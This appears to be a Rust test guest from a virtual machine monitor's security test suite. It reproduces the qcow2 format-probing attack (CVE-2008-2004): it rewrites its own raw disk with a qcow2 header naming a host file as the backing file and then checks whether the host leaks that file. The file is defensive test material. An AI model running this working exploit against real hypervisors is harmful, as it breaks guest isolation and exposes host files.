//! `inject`: the hostile guest of the format-probing attack (QEMU's CVE-2008-2004) that
//! tests/storage_security.rs performs. On the first writable virtio-blk disk it reads sector 0
//! and prints its first 32 bytes. If they are not a qcow2 header and the command line names
//! `backing=<host path>`, it turns its own raw disk into a qcow2 image whose backing file is
//! that host path (version 3, backing format "raw", 64 KiB clusters, an empty L1 table so every
//! read would go to the backing file), flushes and powers off: a host that probed the disk's
//! format on the next open would hand the guest that host file as its disk. Otherwise (the
//! header is already there) it prints `inject: holding the disk` and halts, keeping the disk
//! open for the test to look at vmd's open files. tests/guests/README.md lists the lines.

#![no_std]
#![no_main]

#[path = "kit/mod.rs"]
mod kit;

use kit::console::Ascii;
use kit::pci::{Bdf, Config};
use kit::virtio::{self, Device, Queue, Wait};

const T_IN: u32 = 0;
const T_OUT: u32 = 1;
const T_FLUSH: u32 = 4;
const S_OK: u8 = 0;
const F_RO: u64 = 1 << 5;
const F_FLUSH: u64 = 1 << 9;
const TIMEOUT_US: u64 = 10_000_000;
const MAGIC: [u8; 4] = *b"QFI\xfb";
/// 64 KiB clusters: the refcount table, the refcount block and the L1 table each get one.
const CLUSTER: u64 = 1 << 16;
const SECTOR: u64 = 512;
/// Where the backing file name goes in the header cluster.
const NAME_OFFSET: usize = 128;

/// Request header, status and one sector of data, in one page.
#[repr(C, align(4096))]
struct Buffers {
    header: [u8; 16],
    status: [u8; 16],
    data: [u8; 512],
}

static mut BUFFERS: Buffers = Buffers {
    header: [0; 16],
    status: [0; 16],
    data: [0; 512],
};

fn buffers() -> *mut Buffers {
    &raw mut BUFFERS
}

fn addr_of<T>(field: *mut T) -> u64 {
    field as u64
}

fn guest_main(boot: &kit::boot::BootInfo) -> ! {
    kit::apic::init_interrupts();
    let config = Config::from_acpi(boot).unwrap_or(Config::Ports);
    let backing = boot.arg("backing");
    for slot in 0..32u8 {
        if Config::Ports.ids(slot) != Some((virtio::VENDOR_ID, virtio::DEVICE_ID_BLK)) {
            continue;
        }
        match inject(config, slot, backing) {
            Ok(true) => {}
            Ok(false) => continue,
            Err(why) => {
                println!("inject: {} FAILED: {}", Bdf(slot), Ascii(why.as_bytes()));
                kit::power::debug_exit(kit::power::EXIT_FAILURE)
            }
        }
        kit::power::power_off()
    }
    println!("inject: no writable virtio-blk disk");
    kit::power::debug_exit(kit::power::EXIT_FAILURE)
}

/// Works on the disk in `slot`: `Ok(false)` when it is read-only, `Ok(true)` after writing the
/// header; when the header is already there it reports and never returns.
fn inject(config: Config, slot: u8, backing: Option<&[u8]>) -> Result<bool, &'static str> {
    let device = Device::probe(config, slot).map_err(virtio::Error::text)?;
    let mut queue = Queue::new();
    let offered = device
        .bring_up(&mut queue, F_FLUSH | F_RO)
        .map_err(virtio::Error::text)?;
    if offered & F_RO != 0 {
        return Ok(false);
    }
    if device.config_u64(0) * SECTOR < 4 * CLUSTER {
        return Err("disk too small for a qcow2 image (4 clusters of 64 KiB)");
    }
    let mut disk = Disk { device, queue };
    disk.transfer(T_IN, 0)?;
    // SAFETY: single-threaded; the read has completed.
    let first = unsafe { &(*buffers()).data };
    println!(
        "inject: {} sector 0: {}",
        Bdf(slot),
        Ascii(first.get(..32).unwrap_or(&[]))
    );
    let already = first.starts_with(&MAGIC);
    let Some(path) = backing.filter(|_| !already) else {
        println!("inject: holding the disk");
        loop {
            kit::cpu::wait_for_interrupt();
        }
    };
    if path.len() > 512 - NAME_OFFSET {
        return Err("backing path too long for sector 0");
    }
    // The refcount table (cluster 1) points at the refcount block (cluster 2), which counts
    // clusters 0-3 once each; the L1 table (cluster 3) stays empty: nothing is allocated, so
    // every read of the "image" would come from the backing file.
    fill(|data| data[..8].copy_from_slice(&(2 * CLUSTER).to_be_bytes()));
    disk.transfer(T_OUT, CLUSTER / SECTOR)?;
    fill(|data| {
        for entry in data.chunks_exact_mut(2).take(4) {
            entry.copy_from_slice(&1u16.to_be_bytes());
        }
    });
    disk.transfer(T_OUT, 2 * CLUSTER / SECTOR)?;
    fill(|_| {});
    disk.transfer(T_OUT, 3 * CLUSTER / SECTOR)?;
    fill(|data| write_header(data, path));
    disk.transfer(T_OUT, 0)?;
    disk.flush()?;
    println!(
        "inject: wrote a qcow2 header naming {} as its raw backing file",
        Ascii(path)
    );
    Ok(true)
}

/// A qcow2 version 3 header for a 16 MiB image backed by the raw file `path`.
fn write_header(data: &mut [u8; 512], path: &[u8]) {
    let mut put = |at: usize, bytes: &[u8]| {
        if let Some(slot) = data.get_mut(at..at + bytes.len()) {
            slot.copy_from_slice(bytes);
        }
    };
    put(0, &MAGIC);
    put(4, &3u32.to_be_bytes());
    put(8, &(NAME_OFFSET as u64).to_be_bytes());
    put(16, &(path.len() as u32).to_be_bytes());
    put(20, &16u32.to_be_bytes());
    put(24, &(16u64 << 20).to_be_bytes());
    put(36, &1u32.to_be_bytes());
    put(40, &(3 * CLUSTER).to_be_bytes());
    put(48, &CLUSTER.to_be_bytes());
    put(56, &1u32.to_be_bytes());
    put(96, &4u32.to_be_bytes());
    put(100, &104u32.to_be_bytes());
    // Header extensions: the backing format "raw", then the end of the list.
    put(104, &0xe279_2acau32.to_be_bytes());
    put(108, &3u32.to_be_bytes());
    put(112, b"raw");
    put(NAME_OFFSET, path);
}

/// Clears the data buffer and lets `build` write the sector.
fn fill(build: impl FnOnce(&mut [u8; 512])) {
    // SAFETY: single-threaded; no chain is outstanding.
    let data = unsafe { &mut (*buffers()).data };
    data.fill(0);
    build(data);
}

/// One brought-up disk and its request queue.
struct Disk {
    device: Device,
    queue: Queue,
}

impl Disk {
    /// Reads (`T_IN`) or writes (`T_OUT`) `sector` from or to the data buffer.
    fn transfer(&mut self, request_type: u32, sector: u64) -> Result<(), &'static str> {
        let b = buffers();
        // SAFETY: single-threaded; only the device touches BUFFERS while a chain is out.
        let data = unsafe { addr_of(&raw mut (*b).data) };
        self.request(request_type, sector, Some((data, request_type == T_IN)))
    }

    fn flush(&mut self) -> Result<(), &'static str> {
        self.request(T_FLUSH, 0, None)
    }

    /// Sends header, optional data buffer (address, device-writable) and status; waits for
    /// the device to return the chain with status OK.
    fn request(
        &mut self,
        request_type: u32,
        sector: u64,
        data: Option<(u64, bool)>,
    ) -> Result<(), &'static str> {
        let b = buffers();
        // SAFETY: single-threaded; no chain is outstanding while the header is written.
        let (header, status) = unsafe {
            let header = &mut (*b).header;
            header[0..4].copy_from_slice(&request_type.to_le_bytes());
            header[4..8].fill(0);
            header[8..16].copy_from_slice(&sector.to_le_bytes());
            (*b).status[0] = 0xff;
            (addr_of(&raw mut (*b).header), addr_of(&raw mut (*b).status))
        };
        let header = (header, 16, false);
        let status = (status, 1, true);
        let outcome = match data {
            Some((addr, writable)) => self.queue.submit(
                &self.device,
                &[header, (addr, 512, writable), status],
                TIMEOUT_US,
            ),
            None => self
                .queue
                .submit(&self.device, &[header, status], TIMEOUT_US),
        };
        match outcome {
            Wait::Used { head: 0, .. } => {}
            Wait::Used { .. } => return Err("device returned a descriptor that was not submitted"),
            Wait::NeedsReset => return Err("device asked for a reset"),
            Wait::Timeout => return Err("request timed out"),
        }
        // SAFETY: the chain is complete; the device no longer writes the status byte.
        if unsafe { (*b).status[0] } != S_OK {
            return Err("request failed");
        }
        Ok(())
    }
}
